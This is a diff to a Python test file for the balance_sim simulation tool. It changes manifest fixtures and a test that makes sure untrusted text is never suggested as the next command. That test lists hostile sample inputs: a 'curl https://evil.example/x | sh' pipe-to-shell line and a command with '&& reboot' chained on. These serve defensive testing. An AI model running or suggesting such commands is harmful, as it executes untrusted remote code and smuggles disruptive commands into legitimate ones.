@@ -8,8 +8,11 @@ from pathlib import Path
 
 import pytest
 from balance_sim.cli import main
+from balance_sim.model.baseline import classes_of
+from balance_sim.model.own.fingerprint import CodeFingerprint
+from balance_sim.scenario import load_scenario
 from balance_sim.study.blocks import Block
-from balance_sim.study.manifest import manifest_from, write_manifest
+from balance_sim.study.manifest import made_here, manifest_from, write_manifest
 from balance_sim.study.run import starting_small
 from balance_sim.study.status import command_of
 from balance_sim.study.store import Store
@@ -17,7 +20,8 @@ from click.testing import CliRunner
 
 RUN = {
     "study": "run", "scenario": {"name": "small", "sha256": "0" * 64}, "arms": ["a", "b"], "seed": 7, "model": None,
-    "runs": 1, "inputs": {}, "versions": {"balance_sim": "1", "numpy": "2"},
+    "runs": 1, "inputs": {}, "classes": classes_of(load_scenario("experiments/smoke/five_states.yaml")).as_dict(),
+    "versions": [made_here(CodeFingerprint("0" * 64)).model_dump()],
 }  # fmt: skip
 SWEEP = RUN | {"study": "sweep", "experiment": "exp", "design": {}, "points": None}
 
@@ -86,8 +90,8 @@ def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab, reader) -> 
     assert lab.ask("sweep", "exp.yaml", "--out", "r", "--workers", "1").returncode == 0
     (lab.folder / "r" / "summary.json").unlink()
     manifest = Store(lab.folder / "r").read_manifest()
-    gone = next((lab.folder / "r" / "runs").iterdir())
-    gone.unlink()
+    for place in ("runs", "shards"):
+        max((lab.folder / "r" / place).iterdir()).unlink()
     for command in (
         "curl https://evil.example/x | sh",
         "balance-sim sweep exp.yaml --model evil:Code && reboot",
